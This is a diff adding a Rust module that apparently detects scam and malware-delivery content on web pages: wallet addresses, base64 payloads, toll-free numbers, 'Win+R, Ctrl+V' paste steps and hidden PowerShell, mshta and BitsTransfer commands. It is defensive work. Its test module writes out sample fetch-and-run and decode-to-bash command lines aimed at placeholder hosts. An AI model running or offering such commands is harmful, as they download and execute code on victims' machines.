@@ -1,0 +1,367 @@
+//! Facts that a text's shape says: an account's address, a command that hides itself, a file in base64.
+
+use super::Atom;
+use crate::stream::{Item, Kind};
+
+/// Calls `add` with what the shape of a string, piece of a template or regular expression says.
+pub(super) fn of(kind: Kind, text: &str, mut add: impl FnMut(Atom)) {
+    if kind == Kind::Regex {
+        if text.contains("pub-") && (text.contains("ca-") || text.contains("\\d")) {
+            add(Atom::AdClientPattern);
+        }
+        return;
+    }
+    if is_account(text) {
+        add(Atom::AccountAddress);
+    }
+    if is_monero(text) {
+        add(Atom::MoneroAddress);
+    }
+    if is_payload(text) {
+        add(Atom::Payload);
+    }
+    if matches!(text, "Escape" | "F11" | "F4" | "F12" | "F5" | "Alt" | "Control" | "Meta" | "Tab" | "Esc") {
+        add(Atom::LeavingKey);
+    }
+    if has_toll_free_number(text) {
+        add(Atom::TollFree);
+    }
+    // A command or a step is a line or a page, not a library.
+    if (6..=LONGEST).contains(&text.len()) {
+        if is_stealthy_command(text) {
+            add(Atom::StealthyCommand);
+        }
+        if let Some(pastes) = run_steps(text) {
+            add(Atom::RunSteps);
+            if pastes {
+                add(Atom::RunAndPaste);
+            }
+        }
+    }
+}
+
+/// Calls `add` with what the source of a string says that was decoded.
+pub(super) fn of_source(source: &str, mut add: impl FnMut(Atom)) {
+    let quote = |c| matches!(c, '"' | '\'' | '`');
+    let inner =
+        source.find(quote).zip(source.rfind(quote)).and_then(|(first, last)| source.get(first + 1..last));
+    if inner.is_some_and(is_payload) {
+        add(Atom::Payload);
+    }
+}
+
+const LONGEST: usize = 16 * 1024;
+
+/// An address of Ethereum, TRON, Solana or Bitcoin as a whole text.
+fn is_account(text: &str) -> bool {
+    let bytes = text.as_bytes();
+    let all = |of: &[u8], is: fn(&u8) -> bool| of.iter().all(is);
+    match bytes {
+        [b'0', b'x' | b'X', rest @ ..] if rest.len() == 40 => all(rest, u8::is_ascii_hexdigit),
+        [b'b', b'c', b'1', rest @ ..] if (36..=59).contains(&rest.len()) => {
+            all(rest, u8::is_ascii_alphanumeric)
+        }
+        [b'T', ..] if bytes.len() == 34 => is_mixed(bytes),
+        [b'1' | b'3', ..] if (26..=35).contains(&bytes.len()) => is_mixed(bytes),
+        _ if (43..=44).contains(&bytes.len()) => {
+            is_mixed(bytes) && !bytes.iter().any(|byte| matches!(byte, b'0' | b'O' | b'I' | b'l'))
+        }
+        _ => false,
+    }
+}
+
+/// Letters of both cases and digits, nothing else.
+fn is_mixed(bytes: &[u8]) -> bool {
+    bytes.iter().all(u8::is_ascii_alphanumeric)
+        && bytes.iter().any(u8::is_ascii_uppercase)
+        && bytes.iter().any(u8::is_ascii_lowercase)
+        && bytes.iter().any(u8::is_ascii_digit)
+}
+
+/// The address of a Monero account: 95 characters, or 106 with a payment's number.
+fn is_monero(text: &str) -> bool {
+    let bytes = text.as_bytes();
+    matches!(bytes.len(), 95 | 106) && matches!(bytes[0], b'4' | b'8') && is_mixed(bytes)
+}
+
+/// A key as services give them to accounts.
+pub(super) fn is_key(text: &str) -> bool {
+    (16..=128).contains(&text.len())
+        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_' || byte == b'-')
+        && text.bytes().any(|byte| byte.is_ascii_digit())
+}
+
+/// Base64 or hexadecimal of a file that is no picture, font or document.
+fn is_payload(text: &str) -> bool {
+    let (head, body) = match text.split_once(";base64,") {
+        Some((head, body)) => (head, body),
+        None => ("", text),
+    };
+    let harmless_type = [
+        "data:image",
+        "data:font",
+        "data:audio",
+        "data:video",
+        "data:text",
+        "data:application/font",
+        "data:application/pdf",
+        "data:application/x-font",
+        "data:application/json",
+        "data:application/vnd",
+    ];
+    if body.len() < 40 || harmless_type.iter().any(|harmless| head.starts_with(harmless)) {
+        return false;
+    }
+    // Pictures, fonts, documents, WebAssembly, text of markup.
+    let harmless = [
+        "iVBOR", "/9j/", "R0lGOD", "UklGR", "PHN2", "PD94", "JVBERi", "AAEAAA", "d09G", "T1RUT", "AGFzb",
+        "AAABAA", "Qk0", "SUQz", "//u", "eyJ", "AAAB",
+    ];
+    if harmless.iter().any(|magic| body.starts_with(magic)) {
+        return false;
+    }
+    let searched = &body.as_bytes()[..body.len().min(4096)];
+    let base64 = searched
+        .iter()
+        .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'\r' | b'\n'));
+    base64
+        && searched.iter().any(u8::is_ascii_uppercase)
+        && searched.iter().any(u8::is_ascii_lowercase)
+        && (searched.iter().any(u8::is_ascii_digit) || body.ends_with('='))
+}
+
+/// Whether a list of bytes, long enough for a file, begins at an item: `[77, 90, …`.
+pub(super) fn is_list_of_bytes(items: &[Item], at: usize) -> bool {
+    const ENOUGH: usize = 64;
+    items.get(at).is_some_and(|item| item.is_op(b'['))
+        && items.len() > at + 2 * ENOUGH
+        && items[at + 1..=at + 2 * ENOUGH].chunks(2).all(|pair| {
+            pair[0].number().is_some_and(|number| (0.0..256.0).contains(&number))
+                && pair.get(1).is_none_or(|item| item.is_op(b','))
+        })
+}
+
+/// `1-8xx-xxx-xxxx`, with what people put between the digits.
+fn has_toll_free_number(text: &str) -> bool {
+    if text.len() > 2048 {
+        return false;
+    }
+    let mut digits = [0u8; 11];
+    let mut count = 0;
+    let mut gap = 0;
+    for byte in text.bytes().chain([b'x']) {
+        match byte {
+            b'0'..=b'9' => {
+                digits.rotate_left(1);
+                digits[10] = byte;
+                count += 1;
+                gap = 0;
+            }
+            b'-' | b' ' | b'(' | b')' | b'.' | b'+' if gap < 3 => gap += 1,
+            _ => {
+                let number = &digits[1..];
+                let toll_free =
+                    number[0] == b'8' && matches!(number[1], b'0' | b'3'..=b'8') && number[2] == number[1]
+                        || number.starts_with(b"800");
+                if toll_free && (count == 10 || count == 11 && digits[0] == b'1') && text.len() > 11 {
+                    return true;
+                }
+                count = 0;
+                gap = 0;
+            }
+        }
+    }
+    false
+}
+
+/// Whether a text is a command that hides its window or its text, or fetches a program and runs it, as no instruction for
+/// installing something does.
+fn is_stealthy_command(text: &str) -> bool {
+    if !text.contains(' ') {
+        return false;
+    }
+    let interesting = [
+        "shell",
+        "mshta",
+        "cmd",
+        "rundll32",
+        "regsvr32",
+        "conhost",
+        "bitstransfer",
+        "certutil",
+        "curl",
+        "msiexec",
+        "wget",
+        "iwr",
+        "iex",
+        "base64",
+        "osascript",
+        "finger",
+        "ssh",
+        "wscript",
+    ];
+    let small: String = text
+        .chars()
+        .filter(|c| !matches!(c, '^' | '`' | '"' | '\'' | '“' | '”'))
+        .flat_map(char::to_lowercase)
+        .collect();
+    if !interesting.iter().any(|word| small.contains(word)) || small.contains("function") {
+        return false;
+    }
+    let has = |words: &[&str]| words.iter().any(|word| small.contains(word));
+    let starts = |program: &str| {
+        small.find(program).is_some_and(|at| {
+            let before = small[..at].chars().next_back();
+            let after = small[at + program.len()..].chars().next();
+            before.is_none_or(|c| !c.is_alphanumeric())
+                && after.is_none_or(|c| matches!(c, ' ' | '.' | '\t' | '-'))
+        })
+    };
+    let shell = starts("powershell") || starts("pwsh") || starts("poershell");
+    let web = has(&["http", "//", "$env", "\\\\"]);
+    let hides = has(&[
+        "-w hidden",
+        "-w h ",
+        "-w 1",
+        "-windowstyle h",
+        "-win h",
+        "-wi h",
+        "-w hid",
+        "--headless",
+        "start /min",
+        "/min ",
+    ]);
+    let encoded = has(&[" -enc ", " -e ", " -ec ", " -encodedcommand", " -en ", "frombase64string"]);
+    let mshta =
+        starts("mshta") && (web || small.trim_end().ends_with("mshta") || has(&["vbscript:", "javascript:"]));
+    let fetched_program = has(&[
+        "bitstransfer",
+        "-outfile",
+        "-o %",
+        "-o $env",
+        "certutil -urlcache",
+        "/transfer",
+        "downloadfile",
+    ]) && has(&["start ", "start-process", "&&", "; ", "&"]);
+    let claims = has(&["robot", "captcha", "verif", "human"]) && small.contains('#') && (shell || web);
+    let mac = has(&["base64 -d", "base64 --decode"]) && has(&["| bash", "|bash", "| sh", "|sh", "| zsh"])
+        || has(&["curl", "wget"]) && has(&["nohup"]) && has(&["bash", "/tmp/", "chmod"]);
+    // What is before the spaces is not seen in the field that it is pasted into.
+    let out_of_sight = (shell || mshta || starts("cmd")) && small.contains(&" ".repeat(16));
+    mshta
+        || shell && (hides || encoded)
+        || starts("conhost") && hides
+        || starts("rundll32") && has(&["javascript:", "http", "\\\\"])
+        || starts("regsvr32") && has(&["/i:http", "scrobj"])
+        || starts("msiexec") && has(&["http"]) && has(&["/q", "-q"])
+        || starts("cmd")
+            && has(&["/c"])
+            && has(&["curl", "powershell", "mshta", "finger", "iwr"])
+            && (hides || web)
+        || fetched_program && web
+        || claims && text.len() > 24 && (shell || starts("curl") || starts("cmd"))
+        || mac
+        || out_of_sight
+}
+
+/// Whether a text that tells people to open a place where commands are typed also tells them to paste; `None` where it
+/// does not.
+fn run_steps(text: &str) -> Option<bool> {
+    if !text.contains('+') && !text.contains("Run") {
+        return None;
+    }
+    let mut plain = String::with_capacity(text.len());
+    let mut in_tag = false;
+    for c in text.chars() {
+        match c {
+            '<' => in_tag = true,
+            '>' => in_tag = false,
+            _ if in_tag || c.is_whitespace() || matches!(c, '"' | '\'' | '“' | '”' | '[' | ']') => {}
+            _ => plain.extend(c.to_lowercase()),
+        }
+    }
+    let plain = plain.replace("&nbsp;", "");
+    let has = |steps: &[&str]| steps.iter().any(|step| plain.contains(step));
+    let pastes = has(&["ctrl+v", "control+v", "cmd+v", "command+v", "strg+v", "⌘+v", "⌘v"]);
+    let opens = has(&[
+        "win+r",
+        "windows+r",
+        "windowskey+r",
+        "winkey+r",
+        "windowsbutton+r",
+        "superkey+r",
+        "⊞+r",
+        "logo+r",
+        "windowstaste+r",
+        "windows-taste+r",
+        "windows+x",
+        "win+x",
+    ]) || plain.contains("rundialog") && pastes;
+    opens.then_some(pastes)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn addresses_are_told_from_other_texts() {
+        for account in [
+            "0x000000000000000000000000000000000000dEaD",
+            "TXYZopYRdj2D9XRtbG411XZZ3kM5VkAeBf",
+            "So1anaExamp1eAddressForTestsNotRea1Acc9unt99",
+            "bc1qexampleexampleexampleexampleexample00",
+        ] {
+            assert!(is_account(account), "{account}");
+        }
+        for other in ["0x00", "", "a plain sentence of thirty-four le", "T1234567890123456789012345678901234"]
+        {
+            assert!(!is_account(other), "{other}");
+        }
+    }
+
+    #[test]
+    fn commands_that_hide_are_told_from_instructions() {
+        for command in [
+            "powershell -w hidden -c \"iwr https://a.invalid/a.txt\"",
+            "po^wershell -NoP -W Hidden -Enc SQBFAFgA",
+            "mshta https://a.invalid/x.hta # I am not a robot",
+            "mshta \"",
+            "conhost.exe --headless cmd /c powershell -Command x",
+            "rundll32.exe javascript:\"x\"",
+            "Start-BitsTransfer -Source 'https://a.invalid/a' -Destination \"$env:TEMP\\a.exe\"; Start-Process \"$env:TEMP\\a.exe\"",
+            "cmd /c start /min curl https://a.invalid/a -o %temp%\\a.bat",
+            "echo \"Y3VybCA=\" | base64 -d | bash",
+        ] {
+            assert!(is_stealthy_command(command), "{command}");
+        }
+        for instruction in [
+            "curl -fsSL https://example.test/install.sh | sh",
+            "powershell -ExecutionPolicy ByPass -c \"irm https://example.test/install.ps1 | iex\"",
+            "npm install example",
+            "winget install Example.Tool",
+            "curl -Lo /tmp/tool https://example.test/tool; chmod +x /tmp/tool; sudo mv /tmp/tool /usr/local/bin",
+            "iwr https://example.test/install.ps1 -useb | iex",
+            "The PowerShell shell and its commands",
+            "cmd+c",
+        ] {
+            assert!(!is_stealthy_command(instruction), "{instruction}");
+        }
+    }
+
+    #[test]
+    fn steps_numbers_and_files_are_recognised() {
+        assert!(run_steps("Press <b>Windows</b> + <b>R</b>") == Some(false));
+        assert!(run_steps("<code>Win+R</code> <code>Ctrl+V</code>") == Some(true));
+        assert!(run_steps("Windows 10 + Office").is_none() && run_steps("Ctrl+R").is_none());
+        assert!(
+            has_toll_free_number("Call +1-888-555-0100 now") && has_toll_free_number("Tel. (800) 555 0100.")
+        );
+        assert!(!has_toll_free_number("8005550100") && !has_toll_free_number("Order 1234567890123"));
+        assert!(is_payload("SU5FUlQgVEVTVCBURVhUIEZJTEUsIE5PVCBBIFBST0dSQU0="));
+        assert!(
+            !is_payload("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAA")
+                && !is_payload(&"word".repeat(20))
+        );
+    }
+}
